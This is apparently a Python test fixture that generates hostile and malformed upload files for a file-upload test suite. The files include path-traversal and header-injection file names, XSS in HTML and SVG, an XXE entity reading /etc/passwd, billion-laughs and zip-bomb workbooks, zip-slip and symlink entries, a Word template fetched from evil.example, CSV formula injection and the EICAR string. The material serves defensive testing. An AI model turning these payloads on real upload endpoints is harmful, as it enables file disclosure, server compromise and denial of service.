"""Hostile and odd files (T30): what people and attackers send where a file is asked for.

Each case is a name and its bytes. `taken` names the routes that may keep it, and nothing more: the
test looks at what every route does with every case.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image

from tests.factories import A_PICTURE, TINY_PDF

LOGO, SCAN, TABLE = "logo", "scan", "table"
CSV_TEXT = b"Nom;Code postal\nCabinet des Pins;83480\n"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
# The test file of the antivirus makers, in two halves so that no scanner minds this one.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RIGHT_TO_LEFT = "\u202e"


@dataclass(frozen=True, slots=True)
class Case:
    told: str
    name: str
    content: bytes
    taken: frozenset[str] = frozenset()


def workbook(*rows: tuple[object, ...]) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows or (("Nom", "Code postal"), ("Cabinet des Pins", "83480")):
        sheet.append(list(row))
    kept = io.BytesIO()
    book.save(kept)
    return kept.getvalue()


def repacked(content: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The same archive with its parts changed, or left out."""
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(kept, "w", 8) as new:
        for part in old.infolist():
            made = change(part.filename, old.read(part))
            if made is not None:
                new.writestr(part.filename, made)
    return kept.getvalue()


def with_part(name: str, content: bytes, *, mode: int = 0o100600) -> bytes:
    """A sound workbook that carries one part more."""
    kept = io.BytesIO(workbook())
    part = zipfile.ZipInfo(name)
    part.external_attr = mode << 16
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(part, content, zipfile.ZIP_DEFLATED)
    return kept.getvalue()


def sheet_of(xml: bytes) -> bytes:
    return repacked(
        workbook(), lambda name, old: xml if name == "xl/worksheets/sheet1.xml" else old
    )


def archive_of(**parts: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return kept.getvalue()


def picture(form: str, size: tuple[int, int] = (3, 2)) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, "red").save(kept, form)
    return kept.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def huge_png(side: int) -> bytes:
    """A few kilobytes that claim to be a square of so many pixels, in black and white."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = b"\0" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _row in range(side)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    )


def bomb(megabytes: int) -> bytes:
    """A sheet of zeros: some kilobytes that unpack into so many megabytes."""
    kept = io.BytesIO(workbook())
    with (
        zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as part,
    ):
        part.write(b"<worksheet>")
        for _time in range(megabytes):
            part.write(bytes(1_000_000))
    return kept.getvalue()


def lying(content: bytes) -> bytes:
    """An archive whose directory says that its parts are ten bytes long."""
    changed = bytearray(content)
    place = content.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + 24 : place + 28] = struct.pack("<I", 10)
        place = content.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def cases() -> Iterator[Case]:
    yield from _names()
    yield from _types()
    yield from _archives()
    yield from _pictures()
    yield from _tables()


def _names() -> Iterator[Case]:
    scan, table = frozenset({SCAN}), frozenset({TABLE})
    sent = {
        "plain": "contrat.pdf",
        "double extension": "contrat.php.pdf",
        "odd case": "contrat.PdF",
        "trailing dot": "contrat.pdf.",
        "trailing space": "contrat.pdf ",
        "null": "contrat\0.pdf",
        "right-to-left mark": f"contrat{RIGHT_TO_LEFT}fdp.exe.pdf",
        "traversal": "../../../../etc/cron.d/contrat.pdf",
        "encoded traversal": "..%2f..%2fcontrat.pdf",
        "twice encoded traversal": "%252e%252e%252fcontrat.pdf",
        "traversal of windows": "..\\..\\contrat.pdf",
        "absolute": "/etc/passwd.pdf",
        "absolute of windows": "C:\\Windows\\system32\\contrat.pdf",
        "300 characters": f"{'x' * 300}.pdf",
        "300 accents": f"{'é' * 300}.pdf",
        "reserved": "CON.pdf",
        "reserved stream": "contrat.pdf::$DATA.pdf",
        "quotes": 'contrat"; filename="x.html.pdf',
        "script": "<script>alert(1)</script>.pdf",
        "formula": "=HYPERLINK(1).pdf",
    }
    for told, name in sent.items():
        yield Case(f"name: {told}", name, TINY_PDF, scan)
    for told, name in {
        "executable": "a.pdf.exe",
        "page": "a.pdf.html",
        "none": "a",
        "dots": "..",
        "header": "contrat\r\nX-Injected: yes.pdf",
    }.items():
        yield Case(f"name: {told}", name, TINY_PDF)
    yield Case("name: reserved table", "NUL.csv", CSV_TEXT, table)
    yield Case("name: table called workbook", "clients.xlsx", CSV_TEXT)
    yield Case("name: workbook called table", "clients.csv", workbook())


def _types() -> Iterator[Case]:
    scan = frozenset({SCAN})
    yield Case("type: page called PDF", "a.pdf", HTML)
    yield Case("type: page called PNG", "a.png", HTML)
    yield Case("type: page called CSV", "a.csv", HTML)
    yield Case("type: drawing", "a.svg", SVG)
    yield Case("type: drawing called PNG", "a.png", SVG)
    yield Case("type: drawing called CSV", "a.csv", SVG)
    yield Case(
        "type: XML called CSV", "a.csv", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>"
    )
    yield Case("polyglot: PDF and page", "a.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF", scan)
    yield Case("polyglot: page, then PDF", "a.pdf", HTML + TINY_PDF)
    yield Case("polyglot: GIF and script", "a.gif", b"GIF89a/*" + b"*/=1;alert(1)")
    yield Case("polyglot: GIF called PNG", "a.png", b"GIF89a/*" + b"*/=1;alert(1)")
    yield Case(
        "polyglot: picture, then page", "a.png", picture("PNG") + HTML, frozenset({LOGO, SCAN})
    )
    yield Case(
        "polyglot: picture, then archive",
        "a.jpg",
        picture("JPEG") + workbook(),
        frozenset({LOGO, SCAN}),
    )
    yield Case("program", "a.pdf", b"MZ\x90\0" + bytes(200))
    yield Case("program called CSV", "a.csv", b"MZ\x90\0" + bytes(200))
    yield Case("test virus", "a.pdf", EICAR)
    yield Case("test virus called PNG", "a.png", EICAR)
    yield Case("empty", "a.pdf", b"")
    yield Case("empty table", "a.csv", b"")
    yield Case("cut short", "a.pdf", b"%PDF-1.7 cut short")
    yield Case(
        "one byte too many",
        "a.pdf",
        TINY_PDF[:9] + bytes(10_000_000 - len(TINY_PDF) + 1) + TINY_PDF[9:],
    )
    yield Case(
        "table of one byte too many", "a.csv", CSV_TEXT + b"x" * (10_000_001 - len(CSV_TEXT))
    )


def _archives() -> Iterator[Case]:
    entity = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        b"<worksheet>&a;</worksheet>"
    )
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
        b"<worksheet>&b;</worksheet>"
    )
    dimension = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">'
        b'<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )
    document = archive_of(
        word__document=b"<a/>", word___rels__settings=b'<r Target="http://evil.example/t.dotm"/>'
    )
    yield Case("workbook: entity", "a.xlsx", sheet_of(entity))
    yield Case("workbook: entity in UTF-16", "a.xlsx", sheet_of(entity.decode().encode("utf-16")))
    yield Case("workbook: billion laughs", "a.xlsx", sheet_of(laughs))
    yield Case("workbook: endless sheet", "a.xlsx", sheet_of(dimension))
    yield Case("workbook: no sheet", "a.xlsx", sheet_of(b"not xml"))
    yield Case("workbook: macro", "a.xlsx", with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"))
    yield Case("workbook: macro by name", "a.xlsm", workbook())
    yield Case("workbook: archive within", "a.xlsx", with_part("xl/media/a.bin", workbook()))
    yield Case("workbook: way out", "a.xlsx", with_part("../../evil.xml", b"<a/>"))
    yield Case("workbook: absolute", "a.xlsx", with_part("/etc/evil.xml", b"<a/>"))
    yield Case("workbook: link", "a.xlsx", with_part("xl/link.xml", b"/etc/passwd", mode=0o120777))
    yield Case("workbook: bomb", "a.xlsx", bomb(200))
    yield Case("workbook: bomb that lies", "a.xlsx", lying(bomb(80)))
    yield Case("workbook: cut short", "a.xlsx", workbook()[:900])
    yield Case("document with a remote template", "a.docx", document)
    yield Case("document called workbook", "a.xlsx", document)
    yield Case("archive called PDF", "a.pdf", archive_of(a=b"x"))


def _pictures() -> Iterator[Case]:
    both = frozenset({LOGO, SCAN})
    yield Case("picture", "a.png", A_PICTURE, both)
    yield Case("photograph", "a.jpeg", picture("JPEG"), both)
    yield Case("picture called photograph", "a.jpg", picture("PNG"), frozenset({LOGO}))
    yield Case("picture of 50,000 × 50,000", "a.png", huge_png(50_000))
    yield Case("picture cut short", "a.png", picture("PNG", (90, 90))[:60])
    yield Case("picture of another kind", "a.gif", picture("GIF"))
    yield Case("picture of another kind called PNG", "a.png", picture("BMP"))


def _tables() -> Iterator[Case]:
    table = frozenset({TABLE})
    for lead in ("=", "+", "-", "@", "\t"):
        row = f'Nom;Code postal\n"{lead}HYPERLINK(1)";83480\n'
        yield Case(f"table: starts with {lead!r}", "a.csv", row.encode(), table)
    yield Case("table: formulas", "a.xlsx", workbook(("Nom",), ("=HYPERLINK(1)",)), table)
    yield Case("table: Windows-1252", "a.csv", "Nom;Ville\nÉlodie;Fréjus\n".encode("cp1252"), table)
    yield Case("table: null", "a.csv", b"Nom;Ville\nA\0;B\n")
    yield Case("table: open quotation mark", "a.csv", b'Nom;Ville\n"A;B\n')
    yield Case("table: endless cell", "a.csv", b"Nom;Ville\n" + b"x" * 60_000 + b";B\n")
    yield Case("table: too many columns", "a.csv", b";".join([b"a"] * 101))
    yield Case("table: too many rows", "a.csv", b"Nom;Ville\n" + b"a;b\n" * 20_001)
